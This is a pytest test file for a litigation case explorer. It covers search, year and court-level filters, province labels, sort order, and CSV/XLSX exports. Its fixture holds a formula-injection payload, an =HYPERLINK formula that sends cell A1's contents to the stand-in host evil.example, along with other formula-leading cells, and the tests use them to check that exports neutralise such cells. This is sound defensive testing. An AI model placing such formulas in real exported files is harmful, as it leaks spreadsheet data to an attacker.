"""The case explorer's logic (litigation.cases.explorer, CaseIndex filters): search by keyword, party and
case number; cases of unknown year or court level counted and included on request; English province
names; the order of the list; CSV and XLSX exports in which no cell runs as a formula."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from litigation.cases import explorer as ex
from litigation.cases.loading import load_cases
from litigation.cases.schema import DEFAULT_CASES_PATH, PROVINCE_NAMES, PROVINCES
from litigation.damages.comparables import CaseIndex, Filters

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture(scope="module")
def df() -> pd.DataFrame:
    return load_cases(DEFAULT_CASES_PATH)


def ids(df: pd.DataFrame, query: str, scope: str = "all") -> list[str]:
    return list(df["case_id"][ex.search_mask(df, query, scope)])


@pytest.mark.parametrize("query", ["(2019)浙0111民初6971号", "（2019）浙0111民初6971号", "〔2019〕浙0111民初6971号",
                                   "(2019) 浙0111 民初6971号", "6971", "浙0111民初"])
def test_case_number_whole_or_partial_finds_a1(df, query):
    assert ids(df, query, "case_no") == ["A1"]
    assert "A1" in ids(df, query, "all")


def test_case_number_scope_reads_only_the_case_number(df):
    assert ids(df, "郭兵", "case_no") == []
    assert ids(df, "A1", "case_no") == ["A1"]  # the dataset's own id is searched too


def test_party_search_reads_the_case_name_in_both_languages(df):
    assert ids(df, "郭兵", "party") == ["A1", "A2"]
    assert ids(df, "guo bing", "party") == ["A1", "A2"]
    assert ids(df, "GUO", "party") == ids(df, "guo", "party")
    assert "A2" not in ids(df, "fingerprint", "party")  # a word of its notes is not a party


def test_keyword_search_reads_names_court_and_notes(df):
    assert "A2" in ids(df, "fingerprint", "keyword")  # notes
    court = df.loc[df["case_id"] == "A1", "court_zh"].iloc[0]
    assert "A1" in ids(df, court, "keyword")
    both = ids(df, "杭州 动物", "all")
    assert both and set(both) <= set(ids(df, "杭州")) & set(ids(df, "动物"))  # every word must be found


def test_an_empty_query_passes_every_row_and_a_nonsense_one_none(df):
    assert len(ids(df, "  ")) == len(df)
    assert ids(df, "没有这个词zzqx") == []


def test_unknown_year_is_counted_and_included_on_request(df):
    idx = CaseIndex(df)
    unknown = int(df["year"].isna().sum())
    assert unknown > 0
    f = Filters(year_min=2020, year_max=2023)
    known = int(((df["year"] >= 2020) & (df["year"] <= 2023)).fillna(False).sum())
    assert idx.mask(f).sum() == known
    assert idx.left_out(f)["year"] == unknown
    g = f.model_copy(update={"include_unknown_year": True})
    assert idx.mask(g).sum() == known + unknown
    assert idx.left_out(g)["year"] == unknown  # what the ticked box adds
    assert idx.left_out(Filters())["year"] == 0  # no year range: nothing left out


def test_left_out_counts_only_within_the_search(df):
    idx = CaseIndex(df)
    found = ex.search_mask(df, "郭兵", "party")
    assert idx.left_out(Filters(year_min=2021), within=found)["year"] == 0  # A1, A2 both have a year


def test_unknown_court_level_is_counted_and_included_on_request(df):
    idx = CaseIndex(df)
    n = int((df["court_level"] == "unknown").sum())
    f = Filters(court_level=["basic"])
    assert idx.left_out(f)["court"] == n > 0
    g = f.model_copy(update={"include_unknown_court": True})
    assert idx.mask(g).sum() == idx.mask(f).sum() + n
    assert set(df["court_level"][idx.mask(g)]) == {"basic", "unknown"}


def test_every_province_has_the_english_name_of_the_income_table():
    table = pd.read_csv(DEFAULT_CASES_PATH.parent / "income_by_province.csv", dtype=str)
    names = dict(zip(table["province_zh"], table["province_en"], strict=False))
    assert PROVINCES == tuple(PROVINCE_NAMES)
    assert {z: names[z] for z in PROVINCES} == PROVINCE_NAMES
    assert ex.province_label("浙江", "en") == "Zhejiang" and ex.province_label("浙江", "zh") == "浙江"
    assert ex.province_label(None, "en") == "—" and ex.province_label("火星", "en") == "火星"


def test_order_puts_unknown_last_and_keeps_ties_in_dataset_order(df):
    by_year = ex.order(df, "year")
    years = list(by_year["year"])
    known = [y for y in years if pd.notna(y)]
    assert known == sorted(known, reverse=True) and all(pd.isna(y) for y in years[len(known):])
    same = list(by_year["case_id"][by_year["year"] == known[0]])
    assert same == list(df["case_id"][df["year"] == known[0]])
    awards = [a for a in ex.order(df, "award")["awarded_total"] if pd.notna(a)]
    assert awards == sorted(awards, reverse=True)
    sims = {"A3": 0.9, "A1": 0.5}
    assert list(ex.order(df, "similarity", sims)["case_id"][:2]) == ["A3", "A1"]
    assert list(ex.order(df, "dataset")["case_id"]) == list(df["case_id"])


def hostile_table(df: pd.DataFrame) -> pd.DataFrame:
    """The explorer's export of a collection with a hostile case, plus cells beginning with each dangerous
    character, a negative number, and a column name that is itself a formula."""
    rows = df.head(3)[["case_id", "case_name_en", "awarded_total"]].copy()
    rows["case_name_en"] = [HOSTILE, "+1+1", "@SUM(A1:A9)"]
    rows["notes"] = ["-2+3", "\tTAB", "plain"]
    rows["delta"] = [-5.0, None, 1.5]
    return rows.rename(columns={"case_id": "=ID"})


def test_csv_export_neutralises_every_formula_cell(df):
    data = ex.to_csv(hostile_table(df))
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the UTF-8 as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "'=ID"
    assert rows[1][1] == "'" + HOSTILE and rows[2][1] == "'+1+1" and rows[3][1] == "'@SUM(A1:A9)"
    assert rows[1][3] == "'-2+3" and rows[2][3] == "'\tTAB"
    assert rows[1][4] == "-5.0"  # a number stays a number
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())]


def test_xlsx_export_has_no_formula_cell(df):
    wb = openpyxl.load_workbook(io.BytesIO(ex.to_xlsx(hostile_table(df))))
    ws = wb.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0][0] == "'=ID"
    assert values[1][1] == "'" + HOSTILE and values[1][3] == "'-2+3" and values[1][4] == -5
    assert values[3][3] == "plain"


def test_the_hostile_cell_really_is_a_formula_without_neutralising(df):
    """The check above can fail: written as it is, the hostile name becomes a formula cell."""
    buf = io.BytesIO()
    hostile_table(df).to_excel(buf, index=False, engine="openpyxl")
    ws = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    assert any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_xlsx_export_drops_characters_xml_cannot_hold():
    wb = openpyxl.load_workbook(io.BytesIO(ex.to_xlsx(pd.DataFrame({"a": ["x\x01y\x0bz"]}))))
    assert wb.active["A2"].value == "xyz"


def test_the_command_line_searches_and_exports_neutralised(tmp_path, capsys):
    from test_cases_cli import run, write_csv

    rows = list(csv.DictReader(DEFAULT_CASES_PATH.open(encoding="utf-8", newline="")))
    rows[0]["case_name_en"] = HOSTILE
    mine = write_csv(tmp_path / "mine.csv", rows)
    assert run(["cases", "list", "--path", str(mine), "--search", "6971", "--scope", "case_no"]) == 0
    out = capsys.readouterr().out
    assert " A1 " in out and "1 cases" in out
    out_csv = tmp_path / "a1.csv"
    assert run(["cases", "list", "--path", str(mine), "--search", "6971", "--format", "csv", "-o", str(out_csv)]) == 0
    got = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8-sig"))))
    assert [r["case_id"] for r in got] == ["A1"]
    assert got[0]["case_name_en"] == "'" + HOSTILE and got[0]["decision_date"] == "2020-11-20"
    out_xlsx = tmp_path / "all.xlsx"
    assert run(["cases", "list", "--path", str(mine), "--format", "xlsx", "-o", str(out_xlsx)]) == 0
    ws = openpyxl.load_workbook(out_xlsx).active
    assert ws.max_row == len(rows) + 1
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert run(["cases", "list", "--path", str(mine), "--format", "xlsx"]) == 2  # xlsx needs a file


def test_an_english_line_for_a_comparable_names_the_province_in_english(df):
    from litigation.damages.comparables import describe

    a1 = next(c for c in CaseIndex(df).search({"scenario": "zoo_park", "province": "浙江"}, k=5) if c.case_id == "A1")
    assert "Zhejiang" in describe(a1, "en") and "浙江" not in describe(a1, "en").split("|")[1]
    assert "浙江" in describe(a1, "zh")
